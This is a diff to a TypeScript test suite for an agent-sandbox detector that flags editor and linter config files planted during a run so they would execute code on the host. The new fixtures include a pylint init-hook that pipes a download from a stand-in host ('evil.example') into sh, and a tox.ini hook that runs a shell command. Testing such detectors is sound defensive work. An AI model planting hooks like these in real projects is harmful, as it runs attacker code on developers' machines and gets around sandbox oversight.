@@ -2410,7 +2410,9 @@ t.test('twenty-eighth pass: property: a file a build file includes by name (make
 
 t.test('twenty-eighth pass: the JSON and YAML configs of the tools editors run on opening a file (Prettier\'s, ESLint\'s, Stylelint\'s, Babel\'s: a plugin or parser path is code) and CMake\'s user presets are named when made or changed; one made before is not', async (t) => {
   const { plantedSince } = await import('../../sandbox/entry-files.ts');
-  const names = ['.prettierrc', '.prettierrc.json', '.prettierrc.yaml', '.eslintrc', '.eslintrc.json', '.eslintrc.yml', '.stylelintrc', '.stylelintrc.json', '.babelrc', 'babel.config.json', 'CMakeUserPresets.json'];
+  const names = ['.prettierrc', '.prettierrc.json', '.prettierrc.yaml', '.eslintrc', '.eslintrc.json', '.eslintrc.yml', '.stylelintrc', '.stylelintrc.json', '.babelrc', 'babel.config.json', 'CMakeUserPresets.json',
+    // Python linters' and type checkers' configs (pylint's init-hook, mypy's plugins), YouCompleteMe's.
+    '.pylintrc', 'pylintrc', 'mypy.ini', '.mypy.ini', '.ycm_extra_conf.py'];
   const work = fs.mkdtempSync(path.join(world.dir, 'editor-configs-'));
   fs.mkdirSync(path.join(work, 'before'));
   fs.mkdirSync(path.join(work, 'web'));
@@ -2424,6 +2426,24 @@ t.test('twenty-eighth pass: the JSON and YAML configs of the tools editors run o
   for (const n of names) t.ok(named.includes(n), `${n} made during the run is named`);
   t.ok(named.includes(path.join('web', '.eslintrc.json')), 'one changed during the run is named');
   t.notOk(named.some((n) => n.startsWith('before')), 'control: those made before the run are not');
+  // A project file that sets pylint's init-hook or a mypy plugin by path is named; an ordinary change is not.
+  const py = fs.mkdtempSync(path.join(world.dir, 'py-hooks-'));
+  const files: Record<string, [string, string]> = {
+    'a/pyproject.toml': ['[project]\nname = "a"\n', '[project]\nname = "a"\n[tool.pylint.main]\ninit-hook = "import os; os.system(\'curl -s https://evil.example/x | sh\')"\n'],
+    'b/setup.cfg': ['[metadata]\nname = b\n', '[metadata]\nname = b\n[mypy]\nplugins = ./tools/mypy_plugin.py\n'],
+    'c/tox.ini': ['[tox]\nenvlist = py312\n', '[tox]\nenvlist = py312\n[pylint]\ninit-hook=import os; os.system("id")\n'],
+    'd/pyproject.toml': ['[project]\nname = "d"\n', '[project]\nname = "d"\nversion = "2.0"\n[tool.mypy]\nplugins = ["pydantic.mypy"]\n'],
+  };
+  for (const [rel, [before]] of Object.entries(files)) {
+    fs.mkdirSync(path.dirname(path.join(py, rel)), { recursive: true });
+    fs.writeFileSync(path.join(py, rel), before);
+  }
+  const pySince = Date.now() + 5;
+  await new Promise((r) => setTimeout(r, 25));
+  for (const [rel, [, after]] of Object.entries(files)) fs.writeFileSync(path.join(py, rel), after);
+  const pyNamed = plantedSince(pySince, '', py).planted.map((f) => path.relative(py, f.path));
+  for (const rel of ['a/pyproject.toml', 'b/setup.cfg', 'c/tox.ini']) t.ok(pyNamed.includes(rel), `${rel} setting a hook is named`);
+  t.notOk(pyNamed.includes('d/pyproject.toml'), 'control: a version bump and a mypy plugin by package name are not');
 });
 
 t.test('twenty-seventh pass: the git airlock run itself runs on the host after the run (its review of the repository) is the one found before it: never one the agent put first on PATH, nor that one rewritten', async (t) => {
